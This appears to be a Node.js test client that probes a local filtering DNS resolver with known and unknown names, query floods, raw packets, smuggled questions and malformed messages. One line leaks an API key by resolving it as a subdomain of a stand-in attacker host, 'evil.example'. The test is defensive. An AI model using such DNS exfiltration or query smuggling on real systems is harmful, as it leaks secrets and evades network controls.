// SPDX-License-Identifier: GPL-2.0-or-later
// Asks for names in every way that Node has, and by hand.  Arguments: what to do.  One line of output for each question.
import { execFileSync } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';

const say = async (name, fn) => {
  try { console.log(name, JSON.stringify(await fn())); } catch (error) { console.log(name, error.cause?.code ?? error.code); }
};
// Sends datagrams one by one; resolves to the answers as hexadecimal digits, null where none came.
async function raw(messages, wait = 2000) {
  const socket = dgram.createSocket('udp4');
  const answers = [];
  for (const message of messages) {
    answers.push(await new Promise((resolve) => {
      const timer = setTimeout(() => resolve(null), wait);
      socket.once('message', (data) => { clearTimeout(timer); resolve(data.toString('hex')); });
      socket.send(Buffer.from(message, 'hex'), 53, '127.64.0.254');
    }));
    socket.removeAllListeners('message');
  }
  socket.close();
  return answers;
}
const question = (name, type = '0001', head = '123401000001000000000000') => head
  + name.split('.').map((l) => l.length.toString(16).padStart(2, '0') + Buffer.from(l).toString('hex')).join('') + '00' + type + '0001';

const acts = {
  async known() {
    await say('lookup', () => dns.lookup('shop.internal'));
    await say('lookup-case', () => dns.lookup('SHOP.internal'));
    await say('resolve4', () => dns.resolve4('shop.internal', { ttl: true }));
    await say('second', () => dns.resolve4('Other.Shop.internal'));
    await say('dns', () => dns.resolve4('dns.internal'));
    await say('resolve6', () => dns.resolve6('shop.internal'));
    await say('mx', () => dns.resolveMx('shop.internal'));
    await say('localhost', () => dns.resolve4('localhost'));
    await say('fetch', () => fetch(`${process.env.SHOP_URL}/items`, { headers: { authorization: `Bearer ${process.env.SHOP_KEY}` } }).then((r) => r.json()));
  },
  async unknown() {
    await say('resolve4', () => dns.resolve4('example.com'));
    await say('resolve6', () => dns.resolve6('EXAMPLE.com'));
    await say('txt', () => dns.resolveTxt('a.example.com'));
    await say('lookup', () => dns.lookup('other.example'));
    await say('fetch', () => fetch('http://unknown.example/'));
    await say('secret', () => dns.resolve4(`${process.env.SHOP_KEY}.evil.example`));
  },
  async thousand() {
    const all = await Promise.allSettled(Array.from({ length: 1000 }, (_, i) => dns.lookup(`n${i}.example`)));
    console.log('thousand', all.filter((r) => r.reason?.code === 'EAI_AGAIN').length);
  },
  async exact() {
    const answers = await raw(Array.from({ length: 300 }, (_, i) => question(`${'Aa'[i % 2]}.example`)));
    console.log('exact', answers.filter((a) => a !== null && a.slice(4, 8) === '8185').length);
  },
  async many() {
    const answers = await raw(Array.from({ length: 1100 }, (_, i) => question(`m${i}.example`)));
    console.log('many', answers.filter((a) => a !== null && a.slice(4, 8) === '8185').length);
  },
  async unread() { // nobody waits for the answers
    const socket = dgram.createSocket('udp4');
    const send = () => new Promise((resolve) => { socket.send(Buffer.from(question('unread.example'), 'hex'), 53, '127.64.0.254', resolve); });
    await Promise.all(Array.from({ length: 50 }, send));
    process.exit(0);
  },
  async bound() { // to the addresses themselves, out of another device than lo
    await dns.resolve4('Other.shop.internal');
    await dns.resolve4('shop.internal');
    await say('tried', () => Number(execFileSync('./bound', ['127.64.0.1', '80', '127.64.0.2', '80', '127.0.0.1', '7', '203.0.113.9', '443'])));
  },
  async smuggle() { // names within messages that ask for none
    const two = '123401000002000000000000' + question('shop.internal', '0001', '') + question('two.evil.example', '0010', '');
    await raw([question('left.evil.example') + '00', question('response.evil.example', '0001', '123480000001000000000000'),
      question('update.evil.example', '0006', '123428000001000000000000'), two, question('left.evil.example')], 200);
  },
  async malformed() {
    const name = 'shop.internal', badvers = question(name, '0001', '123401000001000000000001') + '00002904d0000100000000';
    const garbage = ['', '12', '1234010000010000000000', '123401000001000000000000', '123401000001000000000000c00c00010001', question(name) + '00',
      question(name, '0001', '123481800001000000000000'), question(name, '0001', '123428000001000000000000'), 'ff'.repeat(2000),
      '12340100' + '00'.repeat(2000), badvers];
    for (const answer of await raw(garbage, 200)) console.log('malformed', answer);
    console.log('afterwards', (await raw([question('shop.internal')]))[0]);
  },
};
for (const act of process.argv.slice(2)) await acts[act]();
